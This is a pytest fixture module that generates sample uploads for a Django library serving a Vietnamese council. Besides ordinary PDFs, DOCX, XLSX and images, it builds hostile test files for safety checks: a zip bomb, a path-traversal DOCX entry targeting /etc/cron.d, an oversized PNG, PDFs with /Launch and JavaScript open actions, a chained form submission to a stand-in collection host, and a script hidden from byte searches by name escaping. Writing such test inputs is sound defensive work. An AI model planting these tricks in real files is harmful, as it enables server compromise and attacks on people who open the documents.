"""Real files for the library tests, made on the fly (nothing checked in).

Each generator returns bytes; `upload(data, name)` wraps them as a Django
upload the way a browser form delivers them.
"""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from library import fonts

WORDS = "Tờ trình về dự toán ngân sách địa phương năm 2027"


def upload(data: bytes, name: str, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def pdf(pages=("Hội đồng nhân dân tỉnh", WORDS), *, stamp: str | None = None) -> bytes:
    """A PDF with one page per text, in the Vietnamese font; `stamp` on its own line above page 1."""
    from fpdf import FPDF

    doc = FPDF(format="A4")
    doc.add_font("text", "", fonts.regular())
    doc.set_font("text", size=12)
    for index, text in enumerate(pages):
        doc.add_page()
        if index == 0 and stamp:
            doc.cell(0, 8, stamp, new_x="LMARGIN", new_y="NEXT", align="R")
        doc.multi_cell(0, 7, text, new_x="LMARGIN", new_y="NEXT")
    return bytes(doc.output())


def docx(paragraphs=("Báo cáo thẩm tra", WORDS), *, table=(("Nội dung", "Số tiền"), ("Chi đầu tư phát triển", "1.250 tỷ đồng"))) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(sheets=None) -> bytes:
    return office_xlsx(sheets or {"Dự toán 2027": [("Nội dung", "Dự toán (triệu đồng)"), ("Chi thường xuyên", 4200000),
                                                    ("Chi đầu tư phát triển", 1250000)]})


def image(fmt="PNG", size=(320, 200), *, exif_orientation: int | None = None) -> bytes:
    from PIL import Image, ImageDraw

    im = Image.new("RGB", size, "white")
    ImageDraw.Draw(im).rectangle((10, 10, size[0] // 2, size[1] // 2), fill="navy")
    out = io.BytesIO()
    kwargs = {}
    if exif_orientation:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        kwargs["exif"] = exif.tobytes()
    im.save(out, fmt, **kwargs)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(user_password="mat-khau", owner_password="chu-so-huu", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def corrupt_pdf() -> bytes:
    """A PDF header and then garbage: no object, no page."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def truncated_docx() -> bytes:
    """A DOCX whose package lost its main part (word/document.xml)."""
    source = zipfile.ZipFile(io.BytesIO(docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                target.writestr(info, source.read(info))
    return out.getvalue()


def zip_bomb_docx(claimed_mb: int = 300) -> bytes:
    """A real DOCX plus one entry of `claimed_mb` MB of zeros (compressed to a few hundred KB)."""
    out = io.BytesIO(docx())
    zero = bytes(1024 * 1024)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target:
        with target.open("word/media/padding.bin", "w", force_zip64=True) as entry:
            for _ in range(claimed_mb):
                entry.write(zero)
    return out.getvalue()


def traversal_docx() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target:
        target.writestr("../../etc/cron.d/evil", "* * * * * root true\n")
    return out.getvalue()


def encrypted_office() -> bytes:
    """What Word saves when a password is set: an OLE compound file holding EncryptionInfo
    and EncryptedPackage streams (only the header and directory names matter to the check)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HH", 0x3E, 3) + b"\xfe\xff"
    header += bytes(512 - len(header))
    directory = b""
    for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage"):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        directory += raw + bytes(64 - len(raw)) + struct.pack("<H", len(raw)) + bytes(128 - 66)
    return header + directory + bytes(4096)


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A tiny PNG that claims width × height pixels (only the header is ever read)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    data = image("JPEG", (800, 600))
    return data[: len(data) // 3]


@pytest.fixture
def clerk(db):
    """Office staff who uploads documents, like the demo's secretary, without loading the whole
    demo council (whose own demo documents would then be queued too)."""
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Permission

    user = get_user_model().objects.create(username="vanthu", first_name="Nguyễn Thị Văn Thư")
    user.user_permissions.add(Permission.objects.get(codename="operate_sitting"))
    return get_user_model().objects.get(pk=user.pk)


# ---- the classification-stamp corpus (tests/library/test_stamps.py) --------------------------

HEADER = ("ỦY BAN NHÂN DÂN TỈNH LÀO CAI", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM")
MOTTO = "Độc lập - Tự do - Hạnh phúc"
NUMBER = "Số: 12/BC-UBND"


def official_pdf(body=(WORDS,), *, beside_number: str | None = None, header_cell: str | None = None,
                 pages=None, table=None) -> bytes:
    """An official letter's first page as Word lays it out: the two-column head, the number line
    (with `beside_number` in its own cell between the number and the motto), then the body;
    `pages` adds further pages of text, `table` a grid of cells on page 1."""
    from fpdf import FPDF

    doc = FPDF(format="A4")
    doc.add_font("text", "", fonts.regular())
    doc.set_font("text", size=11)
    doc.add_page()
    doc.cell(85, 7, HEADER[0])
    doc.cell(95, 7, HEADER[1], new_x="LMARGIN", new_y="NEXT", align="C")
    doc.cell(55, 7, NUMBER)
    doc.cell(30, 7, beside_number or "")
    doc.cell(95, 7, MOTTO, new_x="LMARGIN", new_y="NEXT", align="C")
    if header_cell:
        doc.cell(0, 7, header_cell, new_x="LMARGIN", new_y="NEXT")
    for text in body:
        doc.multi_cell(0, 7, text, new_x="LMARGIN", new_y="NEXT")
    if table:
        for row in table:
            for value in row:
                doc.cell(60, 8, value, border=1)
            doc.ln(8)
    for text in pages or ():
        doc.add_page()
        doc.multi_cell(0, 7, text, new_x="LMARGIN", new_y="NEXT")
    return bytes(doc.output())


def scanned_pdf(text_pages=(), image_pages=1) -> bytes:
    """A PDF whose `image_pages` pages are a picture only (a scan: no text layer), after `text_pages`."""
    from fpdf import FPDF
    from PIL import Image

    doc = FPDF(format="A4")
    doc.add_font("text", "", fonts.regular())
    doc.set_font("text", size=11)
    for text in text_pages:
        doc.add_page()
        doc.multi_cell(0, 7, text)
    for _n in range(image_pages):
        doc.add_page()
        doc.image(Image.open(io.BytesIO(image("PNG", (600, 800)))), x=10, y=10, w=190)
    return bytes(doc.output())


def office_docx(paragraphs=(WORDS,), *, header=None, footer=None, first_header=None, tables=(), picture=False) -> bytes:
    """A DOCX with body paragraphs, a header/footer (and a first-page header), any number of tables."""
    import docx as python_docx
    from docx.shared import Cm

    document = python_docx.Document()
    section = document.sections[0]
    if header:
        section.header.paragraphs[0].text = header
    if footer:
        section.footer.paragraphs[0].text = footer
    if first_header:
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = first_header
    for text in paragraphs:
        document.add_paragraph(text)
    for table in tables:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    if picture:
        document.add_picture(io.BytesIO(image("PNG")), width=Cm(5))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def office_xlsx(sheets, *, header=None, footer=None) -> bytes:
    """An XLSX with these sheets {title: rows}; a header/footer (centre) on the first sheet."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(list(row))
    first = workbook.worksheets[0]
    if header:
        first.oddHeader.center.text = header
    if footer:
        first.oddFooter.center.text = footer
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# ---- PDFs with active content (library.pdfsafety) ---------------------------------------------

def pdf_with(change) -> bytes:
    """samples.pdf() rewritten by pypdf after `change(writer)` added something to it."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = TextStringObject(value)
    return action


def pdf_with_document_script() -> bytes:
    """A JavaScript in the document's names tree (runs when it opens)."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    def change(writer):
        script = writer._add_object(_action("/JavaScript", JS="app.alert('Xin chào');"))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("chao"), script])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return pdf_with(change)


def pdf_with_open_action(kind="/Launch") -> bytes:
    """The catalog's /OpenAction: start a program (or run a script) when the file opens."""
    from pypdf.generic import NameObject

    def change(writer):
        entries = {"JS": "app.alert(1)"} if kind == "/JavaScript" else {"F": "cmd.exe"}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(_action(kind, **entries))
    return pdf_with(change)


def pdf_with_page_action() -> bytes:
    """A page's additional action (/AA /O: when the page opens) that runs a script."""
    from pypdf.generic import DictionaryObject, NameObject

    def change(writer):
        writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="this.print()")})
    return pdf_with(change)


def pdf_with_link_script() -> bytes:
    """A link annotation on page 1 whose action is a script; a /Next chain hides it one step away."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    def change(writer):
        first = _action("/URI", URI="https://hdnd.laocai.gov.vn/")
        first[NameObject("/Next")] = _action("/SubmitForm", F="https://example.invalid/collect")
        link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                 NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)]),
                                 NameObject("/A"): first})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return pdf_with(change)


def pdf_with_attachment() -> bytes:
    return pdf_with(lambda w: w.add_attachment("bang-luong.xlsx", b"PK\x03\x04 not really a workbook"))


def pdf_with_web_link() -> bytes:
    """An ordinary link to the council's site: allowed."""
    from fpdf import FPDF

    doc = FPDF()
    doc.add_font("text", "", fonts.regular())
    doc.set_font("text", size=12)
    doc.add_page()
    doc.cell(0, 10, "Cổng thông tin Hội đồng nhân dân tỉnh", link="https://hdnd.laocai.gov.vn/")
    return bytes(doc.output())


def pdf_with_hidden_script() -> bytes:
    """A PDF written by hand so that a byte search for "/JavaScript" finds nothing: the catalog
    sits in a compressed object stream (PDF 1.5) and spells its action "/J#61vaScript"."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    stream_body = b"1 0 " + catalog
    packed = zlib.compress(stream_body)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(num, body: bytes):
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n" % num + body + b"\nendobj\n")

    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>")
    content = b"BT /F1 24 Tf 72 700 Td (To trinh so 125) Tj ET"
    obj(4, b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    obj(5, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed + b"\nendstream")
    obj(6, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    # The cross-reference stream: type 2 for object 1 (in stream 5, index 0), type 1 for the rest.
    xref_at = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 5, 0)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (2, 3, 4, 5, 6)]
    rows.append(struct.pack(">BIH", 1, xref_at, 0))
    data = zlib.compress(b"".join(rows))
    out.write(b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
              % len(data) + data + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()
